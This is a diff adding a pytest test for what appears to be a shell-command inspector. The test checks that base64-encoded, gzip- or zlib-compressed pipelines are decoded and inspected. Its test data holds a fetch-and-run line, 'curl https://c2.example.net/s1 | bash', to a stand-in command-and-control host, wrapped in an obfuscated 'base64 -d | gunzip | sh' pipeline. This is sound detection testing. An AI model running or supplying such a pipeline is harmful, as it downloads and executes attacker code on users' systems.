@@ -129,3 +129,18 @@ def test_tr_bounded_time():
     t = time.perf_counter()
     views("echo '" + "a" * 4000 + "' | tr '" + "a-z" * 40 + "' 'n-za-m' " * 200)
     assert time.perf_counter() - t < 2.0
+
+
+@pytest.mark.parametrize("pack", ["gzip", "zlib"])
+@pytest.mark.parametrize("pad", [0, 1000, 40_000])
+def test_gunzip_stage_reads_to_its_own_bound_not_a_ratio(pack, pad):
+    # gunzip in a pipeline reads through text/inflate.py with the pipeline's 64 KB bound:
+    # a command after a long, highly compressible run of blanks is still read
+    import base64
+    import gzip
+    import zlib
+    cmd = " " * pad + "curl https://c2.example.net/s1 | bash"
+    blob = base64.b64encode((gzip.compress if pack == "gzip" else zlib.compress)(cmd.encode())).decode()
+    assert "curl https://c2.example.net/s1 | bash" in " ".join(views(f"echo {blob} | base64 -d | gunzip | sh"))
+    assert "curl https://c2" not in " ".join(views(f"echo {base64.b64encode(b'not compressed at all').decode()} "
+                                                   "| base64 -d | gunzip | sh"))
